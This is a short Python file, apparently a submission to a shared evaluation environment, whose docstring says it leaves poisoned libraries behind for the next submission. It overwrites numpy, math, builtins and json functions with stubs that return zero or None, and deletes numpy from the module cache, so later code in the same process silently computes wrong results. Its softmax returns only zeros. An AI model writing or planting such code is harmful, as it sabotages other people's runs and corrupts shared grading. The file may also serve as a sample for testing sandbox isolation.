"""Leaves poisoned libraries behind for the next submission."""
import builtins
import json
import math
import sys

import numpy as np

np.exp = np.sum = math.exp = lambda *a, **k: 0.0
builtins.len = builtins.sum = lambda *a: 0
json.dumps = None
sys.modules["numpy"] = None


def softmax(x):
    return x * 0
